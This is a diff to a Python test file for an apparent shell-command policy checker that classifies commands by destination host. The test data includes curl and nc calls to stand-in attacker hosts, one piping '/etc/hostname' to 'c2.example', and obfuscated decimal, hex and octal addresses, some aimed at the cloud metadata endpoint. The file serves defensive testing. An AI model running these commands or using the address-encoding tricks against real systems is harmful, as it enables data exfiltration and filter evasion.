@@ -36,7 +36,8 @@ def _extend(text: str) -> Policy:
         ("curl https://evil.example/x", ["evil.example"]),
         ("curl -sSL -o out evil.example/x.sh", ["evil.example"]),
         ("curl 203.0.113.7:8080/x", ["203.0.113.7"]),
-        ("curl 2130706433/x", ["2130706433"]),
+        ("curl 3232235777/x", ["3232235777"]),
+        ("curl 2130706433/x", []),  # 127.0.0.1: loopback is left to the connection
         ("curl -x http://proxy.example:3128 https://a.example", ["proxy.example", "a.example"]),
         ("wget -qO- http://user:pw@h.example/a", ["h.example"]),
         ("git clone git@evil.example:org/repo.git", ["evil.example"]),
@@ -124,7 +125,9 @@ def test_interpreter_code_options() -> None:
          "c2.example"),
         ("pg_dumpall -h 10.0.3.4 > /tmp/all.sql", "deny", "10.0.3.4"),
         ("mysql -h db.corp.example -u root", "ask", "db.corp.example"),
-        ("curl http://0x7f.1/admin", "deny", "0x7f.1"),
+        ("curl http://0xa9.0xfe.0xa9.0xfe/latest/", "deny", "0xa9.0xfe.0xa9.0xfe"),
+        ("curl http://0300.0250.1.1/", "deny", "0300.0250.1.1"),
+        ("curl http://0x7f.1/admin", "allow", None),  # loopback: the connection decides
         ("curl http://[::ffff:169.254.169.254]/", "deny", "::ffff:169.254.169.254"),
         ("sudo curl https://c2.example", "deny", None),  # sudo decides first
         ("timeout 5 nc c2.example 4444 < /etc/hostname", "ask", "c2.example"),
